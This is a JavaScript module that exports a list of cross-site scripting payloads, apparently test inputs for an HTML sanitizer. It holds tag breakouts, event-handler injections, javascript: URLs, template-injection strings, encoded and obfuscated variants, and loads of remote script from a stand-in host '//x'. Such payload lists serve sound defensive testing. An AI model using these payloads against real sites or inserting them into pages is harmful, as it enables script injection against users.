// Texts that run as scripts, or break out, wherever a page takes them for markup.
const script = [
  "<script>hit=1</script>", "<script src=//x/hit.js></script>", "</title><script>hit=1</script>", "</textarea><script>hit=1</script>",
  "</style><script>hit=1</script>", "--><script>hit=1</script>", "]]><script>hit=1</script>", "<scr<script>ipt>hit=1</scr</script>ipt>",
  "<SCRIPT>hit=1</SCRIPT>", "<script\n>hit=1</script\n>", "<script/x>hit=1</script>", "<script>hit=1//", "\"><script>hit=1</script>",
  "'><script>hit=1</script>", "<<script>hit=1//<</script>", "<script type=module>hit=1</script>", "</script><script>hit=1</script>",
  "<svg><script>hit=1</script></svg>", "<svg><script href=//x/hit.js /></svg>", "<math><script>hit=1</script></math>",
];
const tags = ["img src=x onerror", "svg onload", "body onload", "iframe onload", "video src=x onerror", "audio src=x onerror", "details open ontoggle",
  "input autofocus onfocus", "select autofocus onfocus", "textarea autofocus onfocus", "marquee onstart", "object data=x onerror", "embed src=x onload",
  "div onmouseover", "a href=x onclick", "form onsubmit", "style onload", "link rel=stylesheet href=//x onerror", "meter onmouseover", "button autofocus onfocus"];
const handler = tags.flatMap((tag) => [`<${tag}=hit=1>`, `"><${tag}='hit=1'>`]);
const others = [
  "javascript:hit=1", "<a href=javascript:hit=1>x</a>", "<iframe src=javascript:hit=1></iframe>", "<iframe srcdoc='<script>parent.hit=1</script>'></iframe>",
  "<object data=javascript:hit=1></object>", "<form action=javascript:hit=1><button>x</button></form>", "<meta http-equiv=refresh content='0;url=//x/hit'>",
  "<base href=//x/hit/>", "<link rel=stylesheet href=//x/hit.css>", "<style>*{background:url(//x/hit)}</style>", "<img src=//x/hit.png>",
  "<svg><animate onbegin=hit=1 attributeName=x></svg>", "<svg><a xlink:href=javascript:hit=1><text>x</text></a></svg>", "<math href=javascript:hit=1>x</math>",
  "${hit=1}", "{{constructor.constructor('hit=1')()}}", "#{hit=1}", "`;hit=1//", "';hit=1//", "\";hit=1//", "\\';hit=1//", "\u2028hit=1",
  "&lt;script&gt;hit=1&lt;/script&gt;", "&#60;script&#62;hit=1&#60;/script&#62;", "%3Cscript%3Ehit=1%3C/script%3E", "\\u003cscript\\u003ehit=1\\u003c/script\\u003e",
  "+ADw-script+AD4-hit=1+ADw-/script+AD4-", "data:text/html,<script>hit=1</script>", "<noscript><p title='</noscript><img src=x onerror=hit=1>'>",
  "<template><img src=x onerror=hit=1></template>", "<xmp><img src=x onerror=hit=1></xmp>", "<plaintext>hit", "<!--<img src=x onerror=hit=1>-->",
  "<![CDATA[<img src=x onerror=hit=1>]]>", "<?xml version='1.0'?><script>hit=1</script>", "<div style=width:expression(hit=1)>", "<x/onclick=hit=1>x</x>",
  "<ｓcript>hit=1</ｓcript>", "event: health\ndata: {\"status\":\"hit\"}\n\n", "\u202e>tpircs/<1=tih>tpircs<",
];
export const payloads = [...script, ...handler, ...others];
